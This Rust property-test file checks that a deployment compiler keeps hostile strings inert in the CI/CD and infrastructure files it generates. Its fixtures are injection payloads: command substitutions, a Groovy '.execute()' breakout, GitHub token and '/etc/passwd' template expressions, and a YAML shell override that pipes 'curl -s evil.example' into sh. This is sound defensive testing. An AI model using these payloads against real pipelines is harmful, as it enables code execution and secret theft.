//! Program strings in the pipelines are data, never code: a string placed
//! in a free-text field that reaches GitHub Actions or Jenkins is either
//! rejected by the checker or leaves the generated structure unchanged —
//! the workflows parse to the same shape (no new keys, no new `${{ }}` in
//! `if:` or `run:`), and the Jenkinsfile has the same Groovy code outside
//! its string literals and the same shell scripts, the value reaching the
//! shell only through `withEnv` bindings; the `.gitlab-ci.yml` has the same
//! jobs and the same script lines, the value living in job `variables:`.

mod common;
use deployc::emit::{self, Target};
use deployc::plan::Plan;
use proptest::prelude::*;
use serde_json::Value;
use std::collections::BTreeMap;

/// The program, with `{V}` in one of its free-text fields.
const FIELDS: &[&str] = &["owner", "config", "channel", "branch", "approver", "sentry_org", "sentry_project"];

fn program(provider: &str, field: &str, v: &str) -> String {
    let pick = |f: &str, benign: &str| if f == field { v.to_string() } else { benign.to_string() };
    format!(
        r##"
project shop {{
  repository = "github.com/acme/shop"
  registry   = ghcr {{ owner = "{owner}" }}
  domain     = "shop.acme.dev"
  branch     = "{branch}"
}}
service api {{
  language = python
  build    {{ context = "api" }}
  port     = 8080
  expose   = ingress {{ host = "api.${{env.domain}}" }}
  health   = http {{ path = "/healthz" }}
}}
integration chat = slack {{
  channel = "{channel}"
  webhook = secret("slack-webhook")
  events  = [deploy, failure]
}}
integration errors = sentry {{
  dsn        = secret("sentry-dsn")
  org        = "{sentry_org}"
  project    = "{sentry_project}"
  auth_token = secret("sentry-auth-token")
}}
gate sast = semgrep {{ config = "{config}" }}
environment dev  {{ promote = on_push("{branch}") notify = [chat] after = [health_check, smoke_tests] }}
environment prod {{ promote = manual(from = dev) approvers = ["{approver}"] requires = [sast] notify = [chat] }}
pipeline {{
  provider    = {provider}
  incremental = true
}}
"##,
        owner = pick("owner", "acme"),
        channel = pick("channel", "#deploys"),
        config = pick("config", "p/default"),
        branch = pick("branch", "main"),
        approver = pick("approver", "acme/rm"),
        sentry_org = pick("sentry_org", "acme"),
        sentry_project = pick("sentry_project", "shop"),
    )
}

/// A string as a .dpl string literal's contents.
fn dpl(s: &str) -> String {
    let mut out = String::new();
    for c in s.chars() {
        match c {
            '\\' => out.push_str("\\\\"),
            '"' => out.push_str("\\\""),
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            '$' => out.push_str("\\$"),
            c => out.push(c),
        }
    }
    out
}

/// The artifacts of a program, or `None` when the checker rejects it.
fn build(text: &str, target: Target) -> Option<Vec<(String, String)>> {
    let c = deployc::compile("test.dpl", text, &common::Disk);
    let (model, graph) = c.output?;
    let out = emit::emit(&Plan::new(&model, &graph, &Default::default()), &[target]);
    Some(out.into_iter().map(|a| (a.path, a.contents)).collect())
}

/// A parsed document with every string replaced, and the count of the
/// expressions (`${{`) its values hold, not counting `${{ '${{' }}` (the
/// expression that writes `${{` itself).
fn shape(v: &Value, exprs: &mut usize) -> Value {
    match v {
        Value::Object(m) => Value::Object(
            m.iter()
                .map(|(k, x)| {
                    // `on:` filters are patterns GitHub never evaluates.
                    let mut ignored = 0;
                    (k.clone(), shape(x, if k == "on" { &mut ignored } else { &mut *exprs }))
                })
                .collect(),
        ),
        Value::Array(a) => Value::Array(a.iter().map(|x| shape(x, exprs)).collect()),
        Value::String(s) => {
            *exprs += s.matches("${{").count() - 2 * s.matches("${{ '${{' }}").count();
            Value::String(String::new())
        }
        other => other.clone(),
    }
}

fn workflow_shapes(files: &[(String, String)]) -> Vec<(String, Value, usize)> {
    files
        .iter()
        .filter(|(p, _)| p.ends_with(".yml"))
        .map(|(p, text)| {
            let v: Value = serde_yaml_ng::from_str(text).unwrap_or_else(|e| panic!("{p} does not parse: {e}\n{text}"));
            let mut n = 0;
            let s = shape(&v, &mut n);
            (p.clone(), s, n)
        })
        .collect()
}

/// A Groovy literal of the Jenkinsfile: its decoded contents and whether
/// it is the script of an `sh` step.
#[derive(Debug, PartialEq)]
struct Literal {
    sh: bool,
    text: String,
}

/// Splits a Jenkinsfile into its code outside string literals and comments
/// (literals as `S`, comments as `//`) and its single-quoted literals,
/// decoded. Errors when a single-quoted literal runs into a line end.
fn groovy(src: &str) -> Result<(String, Vec<Literal>), String> {
    let c: Vec<char> = src.chars().collect();
    let (mut i, mut code, mut lits) = (0, String::new(), Vec::new());
    let starts = |i: usize, s: &str| s.chars().enumerate().all(|(k, x)| c.get(i + k) == Some(&x));
    while i < c.len() {
        if starts(i, "//") {
            while i < c.len() && c[i] != '\n' {
                i += 1;
            }
            code.push_str("//");
        } else if starts(i, "'''") || c[i] == '\'' {
            let triple = starts(i, "'''");
            i += if triple { 3 } else { 1 };
            let mut text = String::new();
            loop {
                if i >= c.len() {
                    return Err("unterminated literal".into());
                }
                if triple && starts(i, "'''") {
                    i += 3;
                    break;
                }
                if !triple && c[i] == '\'' {
                    i += 1;
                    break;
                }
                if !triple && (c[i] == '\n' || c[i] == '\r') {
                    return Err(format!("line end in a literal after {text:?}"));
                }
                if c[i] == '\\' {
                    let e = *c.get(i + 1).ok_or("escape at the end")?;
                    i += 2;
                    match e {
                        'n' => text.push('\n'),
                        'r' => text.push('\r'),
                        't' => text.push('\t'),
                        'u' => {
                            let hex: String = c[i..i + 4].iter().collect();
                            text.push(
                                char::from_u32(u32::from_str_radix(&hex, 16).map_err(|e| e.to_string())?)
                                    .ok_or("bad escape")?,
                            );
                            i += 4;
                        }
                        '\\' | '\'' => text.push(e),
                        other => return Err(format!("unknown escape \\{other}")),
                    }
                    continue;
                }
                text.push(c[i]);
                i += 1;
            }
            lits.push(Literal { sh: code.trim_end().ends_with("sh"), text });
            code.push('S');
        } else if c[i] == '"' {
            // Double-quoted strings are the template's own (no program data).
            code.push('"');
            i += 1;
            while i < c.len() && c[i] != '"' {
                code.push(c[i]);
                i += 1;
            }
            code.push('"');
            i += 1;
        } else if c[i] == '/' && code.trim_end().ends_with("==~") {
            // The tag policy's regular expression.
            code.push('/');
            i += 1;
            while i < c.len() && c[i] != '/' {
                code.push(c[i]);
                i += 1;
            }
            code.push('/');
            i += 1;
        } else {
            code.push(c[i]);
            i += 1;
        }
    }
    Ok((code, lits))
}

/// The job names and every `script:`/`after_script:` line of a `.gitlab-ci.yml`.
fn gitlab_scripts(files: &[(String, String)]) -> Vec<(String, Vec<String>)> {
    let Some((_, text)) = files.iter().find(|(p, _)| p == ".gitlab-ci.yml") else { return Vec::new() };
    let v: Value = serde_yaml_ng::from_str(text).expect("valid YAML");
    let mut out = Vec::new();
    for (name, job) in v.as_object().into_iter().flatten() {
        let lines: Vec<String> = ["script", "after_script"]
            .iter()
            .filter_map(|k| job.get(*k).and_then(Value::as_array))
            .flatten()
            .filter_map(|l| l.as_str().map(str::to_string))
            .collect();
        if !lines.is_empty() {
            out.push((name.clone(), lines));
        }
    }
    out
}

fn jenkins_parts(files: &[(String, String)]) -> (String, Vec<String>, Vec<Literal>) {
    let (_, text) = files.iter().find(|(p, _)| p == "jenkins/Jenkinsfile").expect("a Jenkinsfile");
    let (code, lits) = groovy(text).unwrap_or_else(|e| panic!("the Jenkinsfile does not lex: {e}\n{text}"));
    let scripts = lits.iter().filter(|l| l.sh).map(|l| l.text.clone()).collect();
    (code, scripts, lits)
}

fn hostile() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        Just("\n".to_string()),
        Just("'".to_string()),
        Just("\"".to_string()),
        Just("$(touch /tmp/x)".to_string()),
        Just("`id`".to_string()),
        Just("${{ github.token }}".to_string()),
        Just("${x}".to_string()),
        Just("\\".to_string()),
        Just("\\u000a".to_string()),
        Just("'''".to_string()),
        Just("\ndefaults:\n  run:\n    shell: sh".to_string()),
        Just("\n- x".to_string()),
        Just("' + \"x\".execute() + '".to_string()),
        Just("; touch /tmp/x".to_string()),
        Just("#".to_string()),
        Just("\t".to_string()),
        "[a-z/.*-]{1,6}",
    ];
    prop::collection::vec(piece, 1..6).prop_map(|v| format!("a{}", v.concat()))
}

fn check(field: &str, v: &str) {
    let benign_v = match field {
        "owner" => "acme",
        "channel" => "#deploys",
        "config" => "p/default",
        "branch" => "main",
        _ => "acme/rm",
    };
    let benign_gh = build(&program("github_actions", field, benign_v), Target::Github).expect("benign compiles");
    let benign_jf = build(&program("jenkins", field, benign_v), Target::Jenkins).expect("benign compiles");
    let text = |p: &str| program(p, field, &dpl(v));
    // Rejected by the checker: nothing is generated, nothing to check.
    if let Some(gh) = build(&text("github_actions"), Target::Github) {
        let (a, b) = (workflow_shapes(&benign_gh), workflow_shapes(&gh));
        assert_eq!(a.len(), b.len());
        for ((pa, sa, na), (pb, sb, nb)) in a.iter().zip(&b) {
            assert_eq!(pa, pb);
            assert!(sa == sb, "{field} = {v:?} changes the structure of {pb}");
            assert_eq!(na, nb, "{field} = {v:?} adds an expression to {pb}");
        }
    }
    // GitLab: every script line is the same; the value lives in variables.
    let benign_gl = build(&program("gitlab", field, benign_v), Target::Gitlab).expect("benign compiles");
    if let Some(gl) = build(&text("gitlab"), Target::Gitlab) {
        let (a, b) = (gitlab_scripts(&benign_gl), gitlab_scripts(&gl));
        assert!(!a.is_empty(), "the GitLab program has scripts");
        assert!(a == b, "{field} = {v:?} reaches a GitLab script or changes its jobs");
        if field != "owner" && field != "branch" {
            assert!(gl.iter().any(|(_, t)| t.contains("expand: false")), "literal variables");
        }
    }
    if let Some(jf) = build(&text("jenkins"), Target::Jenkins) {
        let (code_a, sh_a, _) = jenkins_parts(&benign_jf);
        let (code_b, sh_b, lits) = jenkins_parts(&jf);
        assert_eq!(code_a, code_b, "{field} = {v:?} changes the Groovy code");
        assert_eq!(sh_a, sh_b, "{field} = {v:?} reaches a shell script's text");
        if field != "owner" {
            assert!(lits.iter().any(|l| l.text.contains(v)), "{field} = {v:?} is not in any literal");
        }
    }
}

#[test]
fn the_crafted_cases_of_the_security_review_are_inert() {
    check("owner", "acme$(touch /tmp/x)");
    check("config", "r.yml; touch /tmp/x");
    check("channel", "#it's");
    check("branch", "main' + \"x\".execute() + '");
    check("branch", "${{ github.token }}");
    check("approver", "acme/rm\ndefaults:\n  run:\n    shell: \"curl -s evil.example | sh; bash -e {0}\"");
    check("approver", "a\n- x");
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 48, ..ProptestConfig::default() })]
    #[test]
    fn hostile_strings_stay_data(field in prop::sample::select(FIELDS), v in hostile()) {
        check(field, &v);
    }
}

// ---------------------------------------------------------------------------
// Every free-text field, every output. The same rule as above, widened: a
// hostile string in any field a program writes as free text either is
// rejected by the checker or leaves every generated file with the structure
// the benign value gives it — YAML and JSON parse to the same shape, GitHub
// `run:` scripts and Jenkins `sh` scripts are unchanged (values reach a
// shell only through the environment), Helm templates hold the same
// template actions, Terraform JSON the same `${`/`%{` expressions, and the
// Mermaid sources the same lines.

/// Each free-text field of the program below: its marker and a benign value.
const WIDE: &[(&str, &str)] = &[
    ("owner", "acme"),
    ("domain", "shop.example.dev"),
    ("team", "payments"),
    ("prefix", "shop"),
    ("database", "orders"),
    ("channel", "#deploys"),
    ("config", "p/default"),
    ("framework", "next"),
    ("ingress_path", "/"),
    ("health_path", "/healthz"),
    ("build_target", "runtime"),
    ("env_value", "hello"),
    ("exec_arg", "--ready"),
    ("migration_arg", "head"),
    ("approver", "acme/rm"),
    ("query", "sum(rate(jobs_total[1m]))"),
    ("gcp_project", "acme-dr"),
    ("metric_description", "Bookings"),
];

fn wide_program(provider: &str, field: &str, v: &str) -> String {
    let mut text = format!(
        r##"
project shop {{
  repository   = "github.com/acme/shop"
  registry     = ghcr {{ owner = "@owner@" }}
  domain       = "@domain@"
  team         = "@team@"
  secret_store = aws_secrets_manager {{ region = "eu-west-1" prefix = "@prefix@" }}
}}
observability {{
  metrics    = prometheus
  dashboards = grafana
  alerts {{ crash_loop = true error_rate = 5% }}
}}
resource db   = postgres {{ version = "16" database = "@database@" backup {{ schedule = daily retain = 7d }} }}
resource jobs = queue {{}}
integration chat = slack {{
  channel = "@channel@"
  webhook = secret("slack-webhook")
  events  = [deploy, failure]
}}
gate sast = semgrep {{ config = "@config@" }}
strategy careful = canary {{
  steps = [10%, 50%, 100%]
  pause = 2m
  analysis {{
    provider     = prometheus
    success_rate = 99%
    metrics {{ backlog {{ query = "@query@" success = "result[0] < 100" }} }}
  }}
}}
toolchain web-ts {{
  family      = node
  install     = "npm ci"
  test        = ["npx jest --ci"]
  integration = ["npm run test:integration"]
  smoke       = ["npm run test:smoke"]
}}
service web {{
  language  = web-ts
  framework = "@framework@"
  port      = 3000
  build     {{ context = "web" target = "@build_target@" }}
  expose    = ingress {{ host = "web.${{env.domain}}" path = "@ingress_path@" }}
  health    = http {{ path = "@health_path@" }}
  env       {{ API_URL = api.url GREETING = "@env_value@" }}
  custom_metrics = [{{ name = "bookings_total" kind = counter description = "@metric_description@" }}]
}}
service api {{
  language   = python
  port       = 8080
  health     = exec {{ command = ["/bin/check", "@exec_arg@"] }}
  migrations {{ command = ["alembic", "upgrade", "@migration_arg@"] }}
  env        {{ DATABASE_URL = db.url LOG_LEVEL = "info" }}
}}
environment dev {{
  promote = on_push("main")
  notify  = [chat]
  // The suites reach the shell with BASE_URL from the domain and the path.
  after   = [health_check, smoke_tests, integration_tests]
  resources {{ db {{ placement = in_cluster }} }}
}}
environment staging {{
  strategy = careful
  promote  = manual(from = dev)
}}
environment prod {{
  promote    = manual(from = staging)
  approvers  = ["@approver@"]
  requires   = [sast]
  notify     = [chat]
  production = true
}}
pipeline {{ provider = {provider} }}
"##
    );
    // The GCP Terraform reads the same fields (labels, DNS records, the
    // Cloud SQL URL): `gcp` is GitHub Actions on a `cloud = gcp` project.
    if provider == "gcp" {
        text = text.replace("pipeline { provider = gcp }", "pipeline { provider = github_actions }").replace(
            "  team         =",
            "  cloud        = gcp { project = \"acme-shop\" region = \"europe-west1\" }\n  team         =",
        );
    }
    // A standby on GKE pulling ECR images (plan/registry.rs): the GCP
    // project reaches the IAM OIDC provider's URL and trust conditions
    // (HCL JSON) and the ServiceAccount's role ARN (YAML).
    if provider == "multicloud" {
        text = text
            .replace("pipeline { provider = multicloud }", "pipeline { provider = github_actions }")
            .replace(
                "registry     = ghcr { owner = \"@owner@\" }",
                "registry     = ecr { region = \"us-east-1\" account = \"123456789012\" }",
            )
            .replace(
                "secret_store = aws_secrets_manager",
                "cloud        = aws { region = \"us-east-1\" }\n  secret_store = aws_secrets_manager",
            )
            // GCP has no queue (E0411).
            .replace("resource jobs = queue {}\n", "");
        text.push_str(
            "environment dr {\n  promote = manual(from = prod)\n  cluster = \"dr\"\n  cloud   = gcp { project = \"@gcp_project@\" region = \"us-central1\" }\n  resources { db { placement = in_cluster } }\n}\n",
        );
    }
    for (name, benign) in WIDE {
        let value = match *name {
            n if n == field => v.to_string(),
            // The health check is reachable only under the route's prefix:
            // keep it so, or the step legitimately disappears.
            "health_path" if field == "ingress_path" => format!("{v}/healthz"),
            _ => benign.to_string(),
        };
        text = text.replace(&format!("@{name}@"), &value);
    }
    text
}

/// Every string of a parsed document.
fn strings<'a>(v: &'a Value, out: &mut Vec<&'a str>) {
    match v {
        Value::Object(m) => m.values().for_each(|x| strings(x, out)),
        Value::Array(a) => a.iter().for_each(|x| strings(x, out)),
        Value::String(s) => out.push(s),
        _ => {}
    }
}

/// The `run:` scripts of a workflow, in order.
fn runs(v: &Value, out: &mut Vec<String>) {
    match v {
        Value::Object(m) => {
            for (k, x) in m {
                match (k.as_str(), x) {
                    ("run", Value::String(s)) => out.push(s.clone()),
                    _ => runs(x, out),
                }
            }
        }
        Value::Array(a) => a.iter().for_each(|x| runs(x, out)),
        _ => {}
    }
}

/// Terraform template sequences (`${` and `%{`, not their `$${`/`%%{` escapes).
fn tf_templates(s: &str) -> usize {
    let b = s.as_bytes();
    (0..b.len().saturating_sub(1))
        .filter(|&i| (b[i] == b'$' || b[i] == b'%') && b[i + 1] == b'{' && (i == 0 || b[i - 1] != b[i]))
        .count()
}

fn yaml_docs(path: &str, text: &str) -> Vec<Value> {
    use serde::Deserialize;
    serde_yaml_ng::Deserializer::from_str(text)
        .map(|d| Value::deserialize(d).unwrap_or_else(|e| panic!("{path} does not parse: {e}\n{text}")))
        .collect()
}

/// What must not change in one generated file, whatever the program says.
fn structure(path: &str, text: &str) -> Value {
    let mut exprs = 0;
    if path.ends_with("Jenkinsfile") {
        let (code, lits) = groovy(text).unwrap_or_else(|e| panic!("the Jenkinsfile does not lex: {e}\n{text}"));
        let sh: Vec<String> = lits.into_iter().filter(|l| l.sh).map(|l| l.text).collect();
        return serde_json::json!({ "code": code, "sh": sh });
    }
    if path.contains("/templates/") {
        return serde_json::json!({ "actions": text.matches("{{").count(), "ends": text.matches("}}").count() });
    }
    if path.ends_with(".mmd") {
        return serde_json::json!({ "lines": text.lines().count() });
    }
    if path.ends_with(".md") {
        return serde_json::json!({ "fences": text.lines().filter(|l| l.trim_start().starts_with("```")).count() });
    }
    if path.ends_with(".json") {
        let v: Value = serde_json::from_str(text).unwrap_or_else(|e| panic!("{path} does not parse: {e}"));
        let mut all = Vec::new();
        strings(&v, &mut all);
        let templates: usize = all.iter().map(|s| tf_templates(s)).sum();
        return serde_json::json!({ "shape": shape(&v, &mut exprs), "templates": templates });
    }
    if path == ".gitlab-ci.yml" {
        let doc: Value = serde_yaml_ng::from_str(text).unwrap_or_else(|e| panic!("{path} does not parse: {e}"));
        let scripts = gitlab_scripts(&[(path.to_string(), text.to_string())]);
        return serde_json::json!({ "shape": shape(&doc, &mut exprs), "scripts": scripts });
    }
    if path.ends_with(".yaml") || path.ends_with(".yml") {
        let docs = yaml_docs(path, text);
        let mut scripts = Vec::new();
        docs.iter().for_each(|d| runs(d, &mut scripts));
        let shapes: Vec<Value> = docs.iter().map(|d| shape(d, &mut exprs)).collect();
        // `${{` is an expression only to GitHub; elsewhere (Helm values,
        // Compose, where `$$` escapes it) it is text.
        if !path.starts_with(".github/") {
            exprs = 0;
        }
        return serde_json::json!({ "shape": shapes, "exprs": exprs, "run": scripts });
    }
    serde_json::json!({ "text": text })
}

fn all_targets(text: &str, targets: &[Target]) -> Option<BTreeMap<String, String>> {
    let c = deployc::compile("test.dpl", text, &common::Disk);
    let (model, graph) = c.output?;
    let out = emit::emit(&Plan::new(&model, &graph, &Default::default()), targets);
    Some(out.into_iter().map(|a| (a.path, a.contents)).collect())
}

/// Whether the program with `field = v` compiled (and was checked).
fn check_wide(field: &str, v: &str) -> bool {
    let mut compiled = false;
    for (provider, targets) in [
        ("github_actions", Target::ALL),
        ("jenkins", &[Target::Jenkins][..]),
        ("gitlab", &[Target::Gitlab][..]),
        ("gcp", &[Target::Terraform][..]),
        ("multicloud", &[Target::Terraform, Target::K8s, Target::Helm][..]),
    ] {
        let benign = all_targets(&wide_program(provider, "", ""), targets).expect("the benign program compiles");
        let Some(hostile) = all_targets(&wide_program(provider, field, &dpl(v)), targets) else {
            continue; // rejected by the checker
        };
        compiled = true;
        assert_eq!(
            benign.keys().collect::<Vec<_>>(),
            hostile.keys().collect::<Vec<_>>(),
            "{field} = {v:?} changes which files are generated"
        );
        for (path, a) in &benign {
            let b = &hostile[path];
            let (sa, sb) = (structure(path, a), structure(path, b));
            assert!(
                sa == sb,
                "{field} = {v:?} changes the structure of {path}:\n{}\n---\n{}",
                serde_json::to_string_pretty(&sa).unwrap_or_default(),
                serde_json::to_string_pretty(&sb).unwrap_or_default()
            );
        }
    }
    compiled
}

fn wide_hostile() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        hostile(),
        Just("{{ .Release.Name }}".to_string()),
        Just("${file(\"/etc/passwd\")}".to_string()),
        Just("%{ if true }x%{ endif }".to_string()),
        Just("\"]\n  x --> y".to_string()),
        Just("---".to_string()),
        Just(": x".to_string()),
        Just("&a *a".to_string()),
        Just("!!binary".to_string()),
        Just("```".to_string()),
    ];
    prop::collection::vec(piece, 1..4).prop_map(|v| v.concat())
}

#[test]
fn every_free_text_field_is_data_in_every_output() {
    let mut accepted = Vec::new();
    for (field, _) in WIDE {
        for v in ["a$(touch /tmp/x)'\"`id`", "${file(\"/etc/passwd\")}{{ .Values }}%{ if 1 }", "a: b\n- c"] {
            if check_wide(field, v) {
                accepted.push(format!("{field}: {v:?}"));
            }
        }
    }
    // Not vacuous: most fields take such text (and must keep it data).
    assert!(accepted.len() >= WIDE.len(), "only {accepted:?} compiled");
    eprintln!("{} of {} hostile values compiled: {accepted:#?}", accepted.len(), 3 * WIDE.len());
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 24, ..ProptestConfig::default() })]
    #[test]
    fn hostile_strings_stay_data_everywhere(field in prop::sample::select(WIDE.iter().map(|f| f.0).collect::<Vec<_>>()), v in wide_hostile()) {
        check_wide(field, &v);
    }
}
